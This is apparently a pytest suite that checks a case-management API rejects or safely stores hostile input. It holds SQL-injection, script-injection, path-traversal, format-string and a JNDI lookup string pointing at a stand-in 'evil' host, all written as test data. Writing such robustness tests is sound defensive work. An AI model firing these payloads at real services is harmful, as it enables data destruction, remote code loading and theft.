"""Hand-written hostile input on the main endpoints: every answer is a 4xx problem+json, never a 5xx.

Bodies that are not UTF-8, nested past any parser's stack, numbers past any column, 10 MB, of the wrong
type or absent; text carrying SQL and script that must be stored and answered verbatim; ids that are not
UUIDs; routes and methods that do not exist.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from fastapi.testclient import TestClient

from tests.http.scenario import CASE_BODY, DISPATCH, PROJECT, Tokens, auth, register, step

JSON = {"content-type": "application/json"}


def assert_problem(r: Any, status: int | None = None, rule: str | None = None) -> dict[str, Any]:
    """A 4xx problem+json (RFC 9457); with `rule` when one is named."""
    assert 400 <= r.status_code < 500, f"{r.status_code}: {r.text[:500]}"
    if status is not None:
        assert r.status_code == status, r.text[:500]
    assert r.headers["content-type"].startswith("application/problem+json"), r.headers["content-type"]
    body = dict(r.json())
    assert {"type", "title", "status", "detail"} <= body.keys(), body
    assert body["status"] == r.status_code
    if rule is not None:
        assert body.get("rule") == rule, body
    return body


def in_progress(client: TestClient, t: Tokens) -> str:
    cid = register(client, t.coordinator)["id"]
    step(client, t.coordinator, cid, "dispatch", DISPATCH)
    step(client, t.lead, cid, "sign-for")
    return str(cid)


def nothing_recorded(client: TestClient, t: Tokens) -> bool:
    """No case event in the global feed (issuing the scenario's tokens is recorded there too)."""
    items = client.get("/v1/audit/events", params={"limit": 500}, headers=auth(t.auditor)).json()["items"]
    return not [i for i in items if i["type"].startswith("Case")]


# --- bodies that are not JSON objects ---------------------------------------------------------------------

NOT_AN_OBJECT = {
    "invalid UTF-8": b'{"title": "\xff\xfe\xc3\x28 \xed\xa0\x80"}',
    "lone surrogate escape": json.dumps({**CASE_BODY, "title": "\\ud800"}).replace("\\\\ud800", "\\ud800").encode(),
    "truncated": b'{"kind": "enterprise_problem", "title": ',
    "100,000 levels of [": b"[" * 100_000,
    "100,000 levels of {": b'{"a":' * 100_000,
    "100,000 closed levels": b"[" * 100_000 + b"]" * 100_000,
    "null": b"null",
    "an array": json.dumps([CASE_BODY]).encode(),
    "a string": b'"case"',
    "a number": b"42",
    "empty": b"",
    "whitespace": b"   \n ",
    "NaN": json.dumps({**CASE_BODY, "urgency": float("nan")}).encode(),
    "duplicate keys": b'{"title": "a", "title": "b"}',
}


@pytest.mark.parametrize("name", list(NOT_AN_OBJECT))
def test_a_body_that_is_not_a_json_object_is_a_422_problem(client: TestClient, tokens: Tokens, name: str) -> None:
    r = client.post("/v1/cases", content=NOT_AN_OBJECT[name], headers=auth(tokens.coordinator, **JSON))
    assert_problem(r, 422, "invalid_input")
    assert nothing_recorded(client, tokens)


@pytest.mark.parametrize(
    "name", ["invalid UTF-8", "100,000 levels of [", "100,000 levels of {", "an array", "a string"]
)
@pytest.mark.parametrize("action", ["dispatch", "progress", "extension-request", "resolution", "closure", "sign-for"])
def test_commands_refuse_hostile_bodies_without_recording(
    client: TestClient, tokens: Tokens, name: str, action: str
) -> None:
    cid = in_progress(client, tokens)
    token = tokens.coordinator if action in ("dispatch", "closure") else tokens.lead
    r = client.post(f"/v1/cases/{cid}/{action}", content=NOT_AN_OBJECT[name], headers=auth(token, **JSON))
    assert_problem(r, 422, "invalid_input")
    assert client.get(f"/v1/cases/{cid}", headers=auth(tokens.auditor)).json()["version"] == 3


@pytest.mark.parametrize("action", ["sign-for", "closure"])
def test_an_optional_body_may_be_absent_or_null(client: TestClient, tokens: Tokens, action: str) -> None:
    """sign-for takes none or `{}`; JSON null is the same as none, and nothing hostile gets through."""
    cid = register(client, tokens.coordinator)["id"]
    step(client, tokens.coordinator, cid, "dispatch", DISPATCH)
    token = tokens.lead if action == "sign-for" else tokens.coordinator
    for body in (b"", b"null", b"{}"):
        r = client.post(f"/v1/cases/{cid}/{action}", content=body, headers=auth(token, **JSON))
        if action == "sign-for" and body == b"":
            assert r.status_code == 200, r.text
        elif r.status_code != 200:  # signed for already, or closing a dispatched case: a rule, never a crash
            assert_problem(r, 409)
            assert r.json()["rule"] in ("not_dispatched", "closure_requires_evaluation")


def test_an_empty_required_body_is_422(client: TestClient, tokens: Tokens) -> None:
    cid = in_progress(client, tokens)
    assert_problem(client.post("/v1/cases", headers=auth(tokens.coordinator)), 422, "invalid_input")
    r = client.post(f"/v1/cases/{cid}/progress", headers=auth(tokens.lead))
    assert_problem(r, 422, "invalid_input")
    assert_problem(client.post("/v1/projects", headers=auth(tokens.coordinator)), 422, "invalid_input")
    assert_problem(client.post("/v1/tokens", headers=auth(tokens.admin)), 422, "invalid_input")


@pytest.mark.parametrize(
    "content_type",
    ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", ""],
)
def test_a_wrong_content_type_is_a_4xx_problem(client: TestClient, tokens: Tokens, content_type: str) -> None:
    body = json.dumps(CASE_BODY).encode() if "form" not in content_type else b"title=x&kind=enterprise_problem"
    headers = auth(tokens.coordinator, **({"content-type": content_type} if content_type else {}))
    r = client.post("/v1/cases", content=body, headers=headers)
    assert r.status_code != 201 or content_type == "", r.text
    if r.status_code != 201:
        assert_problem(r)
        assert r.status_code in (415, 422)


# --- numbers past any column ------------------------------------------------------------------------------

HUGE = [10**100, -(10**100), "1e309", "-1e309", "1e-400", 2**63, -(2**63) - 1]


def raw_number(body: dict[str, Any], field: str, value: int | str) -> bytes:
    """A JSON body whose `field` is the literal `value` (1e309 parses to infinity in Python's json)."""
    text = json.dumps({**body, field: "@@"}, ensure_ascii=False)
    return text.replace('"@@"', str(value)).encode()


@pytest.mark.parametrize("value", HUGE)
def test_huge_extra_working_days_are_refused(client: TestClient, tokens: Tokens, value: int | str) -> None:
    cid = in_progress(client, tokens)
    body = raw_number({"reason": "需第三方评估"}, "extra_working_days", value)
    r = client.post(f"/v1/cases/{cid}/extension-request", content=body, headers=auth(tokens.lead, **JSON))
    assert_problem(r)
    assert r.json().get("rule"), r.text
    assert client.get(f"/v1/cases/{cid}", headers=auth(tokens.auditor)).json()["version"] == 3


@pytest.mark.parametrize("field", ["planned_investment", "percent_complete", "investment_to_date"])
@pytest.mark.parametrize("value", HUGE)
def test_huge_project_figures_are_422(client: TestClient, tokens: Tokens, field: str, value: int | str) -> None:
    if field == "planned_investment":
        r = client.post(
            "/v1/projects", content=raw_number(PROJECT, field, value), headers=auth(tokens.coordinator, **JSON)
        )
    else:
        pid = client.post("/v1/projects", json=PROJECT, headers=auth(tokens.coordinator)).json()["id"]
        base = {"percent_complete": 5, "investment_to_date": 900}
        r = client.post(
            f"/v1/projects/{pid}/progress",
            content=raw_number(base, field, value),
            headers=auth(tokens.coordinator, **JSON),
        )
    if r.status_code < 300:  # a tiny positive figure (1e-400 is 0.0) may be accepted, and must answer cleanly
        assert value == "1e-400", r.text
        return
    assert_problem(r, 422, "invalid_input")


@pytest.mark.parametrize("value", [str(10**100), str(-(10**100)), "1e309", "NaN", "0", "-1", "abc", str(2**63)])
@pytest.mark.parametrize(
    "path", ["/v1/cases", "/v1/views/handling", "/v1/views/warnings", "/v1/projects", "/v1/audit/events"]
)
def test_huge_or_odd_limits_are_422(client: TestClient, tokens: Tokens, value: str, path: str) -> None:
    token = tokens.auditor
    assert_problem(client.get(path, params={"limit": value}, headers=auth(token)), 422, "invalid_input")


@pytest.mark.parametrize("value", [str(10**100), "-1", "1e309", "abc", str(2**63)])
@pytest.mark.parametrize("path", ["/v1/cases", "/v1/views/resolution", "/v1/reports/departments", "/v1/projects"])
def test_huge_or_odd_min_positions_are_refused_at_once(
    client: TestClient, tokens: Tokens, value: str, path: str
) -> None:
    """A min_position no store can reach is refused, not waited on for 5 s nor passed to the database."""
    r = client.get(path, params={"min_position": value}, headers=auth(tokens.coordinator))
    assert_problem(r)
    assert (r.status_code, r.json()["rule"]) in ((422, "invalid_input"), (422, "min_position_beyond_head"))


@pytest.mark.parametrize("value", [str(10**100), str(2**63), str(2**31), "0", "-1", "1e309", "1.5", "abc"])
def test_huge_or_odd_as_of_versions_are_4xx(client: TestClient, tokens: Tokens, value: str) -> None:
    cid = in_progress(client, tokens)
    r = client.get(f"/v1/cases/{cid}", params={"as_of_version": value}, headers=auth(tokens.auditor))
    assert_problem(r)
    assert r.status_code in (404, 422)


@pytest.mark.parametrize("value", ["9999-99-99", "0001-01-01T00:00:00", "+275760-09-13", "yesterday", "1e309"])
def test_odd_as_of_instants_are_4xx(client: TestClient, tokens: Tokens, value: str) -> None:
    cid = in_progress(client, tokens)
    r = client.get(f"/v1/cases/{cid}", params={"as_of": value}, headers=auth(tokens.auditor))
    assert_problem(r)


@pytest.mark.parametrize(
    "params",
    [{"from": "0001-01-01"}, {"to": "9999-12-31"}, {"from": "2026-13-01"}, {"zone": "'; DROP TABLE x; --"}],
)
def test_odd_report_periods_are_4xx_or_answered(client: TestClient, tokens: Tokens, params: dict[str, str]) -> None:
    for path in ("/v1/reports/departments", "/v1/reports/zones"):
        r = client.get(path, params=params, headers=auth(tokens.coordinator))
        assert r.status_code < 500, r.text
        if r.status_code >= 400:
            assert_problem(r)


# --- size ------------------------------------------------------------------------------------------------


def test_a_10_mb_body_is_413(client: TestClient, tokens: Tokens) -> None:
    body = json.dumps({**CASE_BODY, "description": "x" * 10_000_000}).encode()
    r = client.post("/v1/cases", content=body, headers=auth(tokens.coordinator, **JSON))
    assert_problem(r, 413, "body_too_large")
    chunks = (body[i : i + 65536] for i in range(0, len(body), 65536))
    r = client.post("/v1/cases", content=chunks, headers=auth(tokens.coordinator, **JSON))
    assert_problem(r, 413, "body_too_large")
    assert nothing_recorded(client, tokens)


def test_a_lying_content_length_is_not_a_crash(client: TestClient, tokens: Tokens) -> None:
    headers = auth(tokens.coordinator, **JSON, **{"content-length": "abc"})
    r = client.post("/v1/cases", content=json.dumps(CASE_BODY).encode(), headers=headers)
    assert r.status_code < 500


# --- text that must round-trip verbatim -------------------------------------------------------------------

VERBATIM = [
    "'; DROP TABLE stored_events; --",
    "\" OR 1=1; DELETE FROM stored_events WHERE '1'='1",
    "<script>alert('x')</script>",
    '<img src=x onerror="alert(1)">&amp;&lt;',
    "${jndi:ldap://evil/a} {{7*7}} %s%n %(x)s",
    "Robert'); DROP TABLE cases;-- 核药车间 🚀 \u202eRTL",
    "\\u0000 is not a NUL, and neither is \\x00",
]


@pytest.mark.parametrize("text", VERBATIM)
def test_sql_and_script_in_text_are_stored_and_answered_verbatim(client: TestClient, tokens: Tokens, text: str) -> None:
    case = register(
        client,
        tokens.coordinator,
        title=text[:200],
        description=text,
        contact={"name": text[:50], "phone": "13800000000"},
    )
    cid = case["id"]
    assert (case["title"], case["description"]) == (text[:200], text)
    step(client, tokens.coordinator, cid, "dispatch", DISPATCH)
    step(client, tokens.lead, cid, "sign-for")
    last = step(client, tokens.lead, cid, "progress", {"note": text})

    read = client.get(f"/v1/cases/{cid}", headers=auth(tokens.auditor)).json()
    assert (read["title"], read["description"], read["contact"]["name"]) == (text[:200], text, text[:50])
    events = client.get(f"/v1/cases/{cid}/history", headers=auth(tokens.auditor)).json()["events"]
    assert events[0]["data"]["description"] == text
    assert events[-1]["data"]["note"] == text
    feed = client.get("/v1/audit/events", headers=auth(tokens.auditor)).json()["items"]
    assert any(i["data"].get("note") == text for i in feed)

    # the store still works: the same text is searchable and a new case registers after it
    found = client.get(
        "/v1/cases", params={"q": text[:40], "min_position": last["position"]}, headers=auth(tokens.coordinator)
    )
    assert found.status_code == 200, found.text
    assert cid in [i["id"] for i in found.json()["items"]]
    assert register(client, tokens.coordinator)["reference"] != case["reference"]
    assert client.get(f"/v1/cases/{cid}/verification", headers=auth(tokens.auditor)).json()["ok"] is True


@pytest.mark.parametrize("text", VERBATIM[:3])
def test_hostile_search_and_filters_answer_cleanly(client: TestClient, tokens: Tokens, text: str) -> None:
    register(client, tokens.coordinator)
    for params in ({"q": text}, {"reference": text}, {"department": text}, {"credit_code": text}, {"project_id": text}):
        r = client.get("/v1/cases", params=params, headers=auth(tokens.coordinator))
        assert r.status_code == 200, r.text
    for params in ({"q": text}, {"zone": text}, {"list": text}):
        r = client.get("/v1/projects", params=params, headers=auth(tokens.coordinator))
        assert r.status_code in (200, 422), r.text
        if r.status_code == 422:
            assert_problem(r, 422, "invalid_input")
    r = client.get("/v1/audit/events", params={"actor": text}, headers=auth(tokens.auditor))
    assert (r.status_code, r.json()["items"]) == (200, [])


# --- ids, routes and methods ------------------------------------------------------------------------------

NOT_UUIDS = [
    "not-a-uuid",
    "1",
    "-1",
    "00000000-0000-0000-0000-00000000000g",
    "' OR '1'='1",
    "%00",
    "..%2F..%2Fetc%2Fpasswd",
    "9" * 5000,
    "%F0%9F%9A%80",
    "%ff%fe",
]


@pytest.mark.parametrize("bad", NOT_UUIDS)
def test_a_path_id_that_is_not_a_uuid_is_a_4xx_problem(client: TestClient, tokens: Tokens, bad: str) -> None:
    for path in (f"/v1/cases/{bad}", f"/v1/cases/{bad}/history", f"/v1/projects/{bad}"):
        assert_problem(client.get(path, headers=auth(tokens.auditor)))
    r = client.post(f"/v1/cases/{bad}/progress", json={"note": "x"}, headers=auth(tokens.lead))
    assert_problem(r)
    assert_problem(client.delete(f"/v1/tokens/{bad}", headers=auth(tokens.admin)))


def test_unknown_uuids_are_404_and_a_merge_into_garbage_is_4xx(client: TestClient, tokens: Tokens) -> None:
    missing = "00000000-0000-4000-8000-000000000000"
    assert_problem(client.get(f"/v1/cases/{missing}", headers=auth(tokens.auditor)), 404)
    assert_problem(client.get(f"/v1/projects/{missing}", headers=auth(tokens.auditor)), 404)
    assert_problem(client.delete(f"/v1/tokens/{missing}", headers=auth(tokens.admin)), 404)
    cid = register(client, tokens.coordinator)["id"]
    for into in ("not-a-uuid", missing, cid, "'; DROP TABLE stored_events; --"):
        assert_problem(client.post(f"/v1/cases/{cid}/merge", json={"into": into}, headers=auth(tokens.coordinator)))


@pytest.mark.parametrize(
    ("method", "path", "status"),
    [
        ("GET", "/v1/nothing", 404),
        ("GET", "/v2/cases", 404),
        ("GET", "/nothing", 404),  # "/" leads to the console (tests/console)
        ("POST", "/v1/cases/00000000-0000-4000-8000-000000000000/teleport", 404),
        ("PUT", "/v1/cases", 405),
        ("DELETE", "/v1/cases", 405),
        ("PATCH", "/v1/tokens", 405),
        ("DELETE", "/v1/audit/events", 405),
        ("POST", "/v1/views/handling", 405),
    ],
)
def test_unknown_routes_and_methods_are_problems(
    client: TestClient, tokens: Tokens, method: str, path: str, status: int
) -> None:
    r = client.request(method, path, headers=auth(tokens.coordinator))
    assert_problem(r, status)
    if status == 405:
        assert r.headers.get("allow")


@pytest.mark.parametrize("value", ['"abc"', "*", '"' + "9" * 400 + '"', '"-1"', 'W/"1"', '"1", "2"'])
def test_odd_if_match_is_a_4xx_problem(client: TestClient, tokens: Tokens, value: str) -> None:
    cid = in_progress(client, tokens)
    r = client.post(f"/v1/cases/{cid}/progress", json={"note": "x"}, headers=auth(tokens.lead, **{"If-Match": value}))
    if r.status_code == 200:  # "*" may legitimately mean "any version"
        assert value == "*"
        return
    assert_problem(r)
    assert r.status_code in (412, 422)
    assert client.get(f"/v1/cases/{cid}", headers=auth(tokens.auditor)).json()["version"] == 3


@pytest.mark.parametrize("header", ["Bearer", "Bearer ", "Basic dXNlcjpwYXNz", "bearer x y z", "Bearer " + "a" * 8000])
def test_odd_authorization_headers_are_401_problems(client: TestClient, header: str) -> None:
    r = client.get("/v1/cases", headers={"Authorization": header})
    assert_problem(r, 401)
